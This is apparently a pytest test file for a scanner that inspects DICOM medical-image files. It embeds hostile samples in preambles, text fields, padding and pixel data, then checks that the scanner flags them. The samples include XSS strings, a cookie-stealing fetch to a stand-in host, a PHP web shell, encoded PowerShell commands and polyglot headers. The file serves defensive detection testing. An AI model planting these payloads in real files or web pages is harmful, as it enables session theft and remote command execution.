"""DICOM: the preamble judged by the classifier, text values judged for script, polyglots,
item and trailing padding, pixel fragments and deflated datasets; each with its benign twin."""

from __future__ import annotations

import struct
import zlib

import pytest

from agent.inspect import dicom, dicom_parse
from agent.inspect.engine import inspect_bytes
from agent.inspect.limits import Limits
from agent.inspect.reader import Reader
from agent.model import Severity, Verdict
from tests.format_samples import dicom_element, implicit_dicom_element, pe_payload

EXPLICIT = b"1.2.840.10008.1.2.1"
IMPLICIT = b"1.2.840.10008.1.2"
DEFLATED = b"1.2.840.10008.1.2.1.99"
JPEG_BASELINE = b"1.2.840.10008.1.2.4.50"
UNDEFINED = struct.pack("<I", 0xFFFFFFFF)
ITEM = struct.pack("<HH", 0xFFFE, 0xE000)
SEQ_END = struct.pack("<HHI", 0xFFFE, 0xE0DD, 0)
ROWS = COLS = 4
PIXELS = bytes(range(ROWS * COLS))  # 8 bits allocated, one sample, one frame: 16 bytes
TINY_JPEG = (
    b"\xff\xd8\xff\xdb\x00\x43\x00" + bytes(64) + b"\xff\xc0\x00\x0b\x08\x00\x04\x00\x04\x01"
    b"\x01\x11\x00\xff\xc4\x00\x14\x00\x01" + bytes(15) + b"\x00"
    b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x12\x34\xff\xd9"
)


def meta(transfer_syntax: bytes) -> bytes:
    body = (
        dicom_element(0x0002, 0x0001, b"OB", b"\x00\x01")
        + dicom_element(0x0002, 0x0002, b"UI", b"1.2.840.10008.5.1.4.1.1.7")
        + dicom_element(0x0002, 0x0003, b"UI", b"1.2.3.4.5.6.7.8.9")
        + dicom_element(0x0002, 0x0010, b"UI", transfer_syntax)
    )
    return dicom_element(0x0002, 0x0000, b"UL", struct.pack("<I", len(body))) + body


def dataset(
    texts: dict[tuple[int, int], tuple[bytes, bytes]] | None = None,
    extra: bytes = b"",
    pixel_element: bytes | None = None,
) -> bytes:
    """Elements in ascending tag order: the texts given (or a patient), image header, extra."""
    texts = texts if texts is not None else {(0x0010, 0x0010): (b"PN", b"Haddad^Omar")}
    out = b"".join(dicom_element(g, e, vr, v) for (g, e), (vr, v) in sorted(texts.items()))
    out += (
        dicom_element(0x0028, 0x0002, b"US", struct.pack("<H", 1))
        + dicom_element(0x0028, 0x0010, b"US", struct.pack("<H", ROWS))
        + dicom_element(0x0028, 0x0011, b"US", struct.pack("<H", COLS))
        + dicom_element(0x0028, 0x0100, b"US", struct.pack("<H", 8))
        + extra
    )
    return out + (pixel_element if pixel_element is not None else
                  dicom_element(0x7FE0, 0x0010, b"OB", PIXELS))  # fmt: skip


def dcm(body: bytes = b"", preamble: bytes = bytes(128), ts: bytes = EXPLICIT) -> bytes:
    return preamble.ljust(128, b"\x00")[:128] + b"DICM" + meta(ts) + (body or dataset())


def found(data: bytes, name: str = "study.dcm") -> dict[str, Severity]:
    return {f.code: f.severity for f in inspect_bytes(name, data).findings}


# --- the preamble ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("preamble", "code"),
    [
        (b"\n\r\n<html><body><script>alert(1)</script>", "dicom.executable_preamble"),
        (b"\xef\xbb\xbf<html><script>alert(1)</script></html>", "dicom.executable_preamble"),
        (b"@echo off\r\npowershell -w hidden -c calc\r\n", "dicom.executable_preamble"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>", "dicom.polyglot"),
        (b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(16) + b"\x05\x00\x00\x00a.txt",
         "dicom.polyglot"),
    ],
)  # fmt: skip
def test_a_preamble_that_is_another_file_is_high(preamble: bytes, code: str) -> None:
    assert found(dcm(preamble=preamble))[code] is Severity.HIGH


@pytest.mark.parametrize(
    "magic", [b"GIF89a\x01\x00\x01\x00", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0"]
)
def test_a_preamble_that_starts_another_picture_is_medium(magic: bytes) -> None:
    assert found(dcm(preamble=magic)) == {"dicom.polyglot": Severity.MEDIUM}


@pytest.mark.parametrize(
    "preamble",
    [bytes(128), b"II*\x00\x08\x00\x00\x00", b"MM\x00*\x00\x00\x00\x08",
     b"R_1F7AAEBA350A455F", b"Acme Imaging Workstation 3.1 export".ljust(128, b" "),
     b"<vendor>ACME</vendor>"],
)  # fmt: skip
def test_zeros_tiff_and_vendor_text_stay_benign(preamble: bytes) -> None:
    report = inspect_bytes("study.dcm", dcm(preamble=preamble))
    assert report.verdict is Verdict.CLEAN, report.findings


# --- text values ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tag", "vr", "value"),
    [
        ((0x0010, 0x0010), b"PN", b"<script>alert(document.cookie)</script>"),
        ((0x0008, 0x1030), b"LO", b'<img src=x onerror="fetch(1)">'),
        ((0x0020, 0x4000), b"LT", b"<iframe src=javascript:alert(1)>"),
        ((0x0008, 0x0080), b"LO", b"<svg/onload=alert(1)>"),
        ((0x0032, 0x1060), b"LO", b"powershell -enc SQBFAFgA"),
    ],
)
def test_script_in_a_text_value_is_high(tag: tuple[int, int], vr: bytes, value: bytes) -> None:
    data = dcm(dataset({tag: (vr, value), (0x0010, 0x0020): (b"LO", b"12345")}))
    assert found(data).get("dicom.payload_in_metadata") is Severity.HIGH


def test_script_in_an_implicit_vr_text_value_is_high() -> None:
    body = (
        implicit_dicom_element(0x0008, 0x0060, b"OT")
        + implicit_dicom_element(0x0010, 0x0010, b"<script>alert(1)</script>")
        + implicit_dicom_element(0x0028, 0x0010, struct.pack("<H", 4))
        + implicit_dicom_element(0x0028, 0x0011, struct.pack("<H", 4))
        + implicit_dicom_element(0x7FE0, 0x0010, PIXELS)
    )
    assert found(dcm(body, ts=IMPLICIT)).get("dicom.payload_in_metadata") is Severity.HIGH


def test_ordinary_clinical_text_stays_clean() -> None:
    texts = {
        (0x0008, 0x0060): (b"CS", b"CR"),
        (0x0008, 0x1030): (b"LO", b"Chest PA & lateral <2 views>"),
        (0x0010, 0x0010): (b"PN", b"O'Brien^Mary-Kate^^Dr."),
        (0x0020, 0x4000): (b"LT", b"Post-op wound eval(day 3); compare prior"),
    }
    report = inspect_bytes("study.dcm", dcm(dataset(texts)))
    assert report.verdict is Verdict.CLEAN, report.findings


@pytest.mark.parametrize(("room", "judged"), [(-64, True), (0, True), (64, False)])
def test_text_value_bound(room: int, judged: bool) -> None:
    script = b"<script>alert(1)</script>"
    filler = b"a" * (dicom_parse.MAX_TEXT_VALUE_BYTES - len(script) + room)
    data = dcm(dataset({(0x0020, 0x4000): (b"UT", filler + script)}))
    assert ("dicom.payload_in_metadata" in found(data)) is judged


# --- polyglots ------------------------------------------------------------------------------


def test_a_pdf_header_in_the_first_kib_is_a_polyglot() -> None:
    pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n"
    data = dcm(dataset({(0x0008, 0x0016): (b"UI", b"1.2"), (0x0008, 0x1030): (b"LO", pdf)}))
    assert found(data)["dicom.polyglot"] is Severity.HIGH


def test_a_zip_directory_ending_the_dataset_is_a_polyglot() -> None:
    eocd = b"PK\x05\x06" + bytes(18)
    pixel = dicom_element(0x7FE0, 0x0010, b"OB", PIXELS + eocd)
    assert found(dcm(dataset(pixel_element=pixel)))["dicom.polyglot"] is Severity.HIGH


# --- item padding, trailing padding ---------------------------------------------------------


def _sequence_with_padding(padding: bytes) -> bytes:
    inner = dicom_element(0x0008, 0x0100, b"SH", b"T-D1100")
    item = ITEM + struct.pack("<I", len(inner) + len(padding)) + inner + padding
    return struct.pack("<HH", 0x0040, 0x0260) + b"SQ\x00\x00" + UNDEFINED + item + SEQ_END


PHP = b"<?php system($_GET['c']); ?>"
ZIP_HEADER = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(16) + b"\x05\x00\x00\x00a.txt"


def worst(data: bytes) -> Severity:
    return max(found(data).values(), default=Severity.INFO)


@pytest.mark.parametrize("padding", [PHP, ZIP_HEADER, b"powershell -nop -w hidden -enc SQBFAFgA"])
def test_item_padding_is_judged(padding: bytes) -> None:
    assert (
        found(dcm(dataset(extra=_sequence_with_padding(padding)))).get("dicom.unexplained_data")
        is Severity.HIGH
    )
    assert worst(dcm(dataset(extra=_sequence_with_padding(pe_payload())))) is Severity.HIGH
    assert worst(dcm(dataset(extra=_sequence_with_padding(bytes(32))))) is Severity.INFO


@pytest.mark.parametrize("value", [PHP, ZIP_HEADER])
def test_trailing_padding_element_is_judged(value: bytes) -> None:
    data = dcm(dataset()) + dicom_element(0xFFFC, 0xFFFC, b"OB", value)
    assert found(data).get("dicom.unexplained_data") is Severity.HIGH
    zeros = dcm(dataset()) + dicom_element(0xFFFC, 0xFFFC, b"OB", bytes(256))
    assert worst(zeros) is Severity.INFO


# --- pixel data -----------------------------------------------------------------------------


def _encapsulated(*fragments: bytes, table: bytes = b"") -> bytes:
    items = ITEM + struct.pack("<I", len(table)) + table
    for fragment in fragments:
        fragment += b"\x00" * (len(fragment) % 2)
        items += ITEM + struct.pack("<I", len(fragment)) + fragment
    return struct.pack("<HH", 0x7FE0, 0x0010) + b"OB\x00\x00" + UNDEFINED + items + SEQ_END


def test_a_clean_encapsulated_jpeg_frame_is_clean() -> None:
    report = inspect_bytes("study.dcm", dcm(dataset(pixel_element=_encapsulated(TINY_JPEG)),
                                            ts=JPEG_BASELINE))  # fmt: skip
    assert report.verdict is Verdict.CLEAN, report.findings


@pytest.mark.parametrize(
    "fragments",
    [(TINY_JPEG + b"<html><script>alert(1)</script></html>",),  # after the frame's EOI
     (TINY_JPEG + b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(16) + b"\x05\x00\x00\x00a.txt",),
     (TINY_JPEG, pe_payload()),  # a fragment that is a program
     (TINY_JPEG, b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(16) + b"\x05\x00\x00\x00a.txt")],
)  # fmt: skip
def test_payload_in_pixel_fragments_is_high(fragments: tuple[bytes, ...]) -> None:
    data = dcm(dataset(pixel_element=_encapsulated(*fragments)), ts=JPEG_BASELINE)
    assert Severity.HIGH in found(data).values()


HTML_FRAGMENT = b"<img src=x onerror=\"fetch('//x.example/'+document.cookie)\">"


@pytest.mark.parametrize(
    "fragments",
    [(HTML_FRAGMENT,), (TINY_JPEG, HTML_FRAGMENT), (TINY_JPEG, b"<p>hi</p>" + bytes(64))],
)
def test_a_fragment_that_must_start_a_frame_but_does_not_is_judged(
    fragments: tuple[bytes, ...],
) -> None:
    data = dcm(dataset(pixel_element=_encapsulated(*fragments)), ts=JPEG_BASELINE)
    assert "dicom.unexplained_data" in found(data)


def test_a_frame_split_over_fragments_is_not_a_finding() -> None:
    cut = len(TINY_JPEG) // 2 + 1
    data = dcm(dataset(pixel_element=_encapsulated(TINY_JPEG[:cut], TINY_JPEG[cut:])),
               ts=JPEG_BASELINE)  # fmt: skip
    assert inspect_bytes("study.dcm", data).verdict is Verdict.CLEAN


def test_rle_fragments_must_carry_an_rle_header() -> None:
    rle = struct.pack("<16I", 1, 64, *([0] * 14)) + bytes([0xF1, 7]) + bytes(14)
    clean = dcm(dataset(pixel_element=_encapsulated(rle)), ts=b"1.2.840.10008.1.2.5")
    assert inspect_bytes("study.dcm", clean).verdict is Verdict.CLEAN
    evil = dcm(dataset(pixel_element=_encapsulated(rle, HTML_FRAGMENT)), ts=b"1.2.840.10008.1.2.5")
    assert found(evil).get("dicom.unexplained_data") is Severity.HIGH


def test_an_offset_table_that_points_nowhere_is_judged() -> None:
    table = struct.pack("<II", 0, 10_000_000)
    data = dcm(dataset(pixel_element=_encapsulated(TINY_JPEG, TINY_JPEG, table=table)),
               ts=JPEG_BASELINE)  # fmt: skip
    assert "dicom.unexplained_data" in found(data)
    good = struct.pack("<II", 0, 8 + len(TINY_JPEG) + len(TINY_JPEG) % 2)
    data = dcm(dataset(pixel_element=_encapsulated(TINY_JPEG, TINY_JPEG, table=good)),
               ts=JPEG_BASELINE)  # fmt: skip
    assert "dicom.unexplained_data" not in found(data)


@pytest.mark.parametrize(("extra", "expected"), [(b"", Severity.INFO), (b"\x00", Severity.INFO),
                                                 (ZIP_HEADER, Severity.HIGH),
                                                 (pe_payload(), Severity.HIGH)])  # fmt: skip
def test_native_pixel_data_beyond_the_image_is_judged(extra: bytes, expected: Severity) -> None:
    pixel = dicom_element(0x7FE0, 0x0010, b"OB", PIXELS + extra)
    assert worst(dcm(dataset(pixel_element=pixel))) is expected


def test_php_among_native_pixels_is_high() -> None:
    php = b"<?php system($_GET['c']); ?>"
    pixels = PIXELS[:4] + php + bytes(len(PIXELS) - 4)
    pixel = dicom_element(0x7FE0, 0x0010, b"OB", pixels[: len(PIXELS)])
    data = dcm(dataset(pixel_element=pixel))
    assert found(data).get("dicom.payload_in_image_data") is Severity.HIGH


# --- deflated datasets ----------------------------------------------------------------------


def deflated(body: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(body) + compressor.flush()


def test_a_clean_deflated_dataset_is_walked() -> None:
    data = dcm(deflated(dataset()), ts=DEFLATED)
    report = inspect_bytes("study.dcm", data)
    assert report.verdict is Verdict.CLEAN, report.findings
    st = dicom.walk(Reader.from_bytes(data), Limits())
    assert (st.width, st.height, st.end) == (COLS, ROWS, len(data))


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (dataset({(0x0010, 0x0010): (b"PN", b"<script>alert(1)</script>")}),
         "dicom.payload_in_metadata"),
        (dataset(extra=dicom_element(0x0029, 0x0010, b"LO", b"ACME")
                 + dicom_element(0x0029, 0x1000, b"OB", pe_payload())),
         "dicom.executable_content"),
        (dataset(extra=_sequence_with_padding(b"<?php system($_GET['c']); ?>")),
         "dicom.payload_in_metadata"),
    ],
)  # fmt: skip
def test_payloads_inside_a_deflated_dataset_are_found(body: bytes, code: str) -> None:
    assert found(dcm(deflated(body), ts=DEFLATED)).get(code) is Severity.HIGH


def test_data_after_the_deflate_stream_is_left_over() -> None:
    data = dcm(deflated(dataset()), ts=DEFLATED) + ZIP_HEADER + b"more data"
    assert found(data).get("dicom.trailing_data") is Severity.HIGH


def test_a_deflate_stream_that_does_not_inflate_is_judged() -> None:
    data = dcm(b"\xff" * 64 + pe_payload(), ts=DEFLATED)
    result = found(data)
    assert result.get("dicom.malformed") is Severity.LOW
    assert Severity.HIGH in result.values()  # the program in it is still found


@pytest.mark.parametrize(("cap_delta", "too_large"), [(1, False), (0, False), (-1, True)])
def test_inflate_bound(monkeypatch: pytest.MonkeyPatch, cap_delta: int, too_large: bool) -> None:
    body = dataset()
    monkeypatch.setattr(dicom, "MAX_INFLATED_BYTES", len(body) + cap_delta)
    result = found(dcm(deflated(body), ts=DEFLATED))
    assert ("resource.metadata_too_large" in result) is too_large
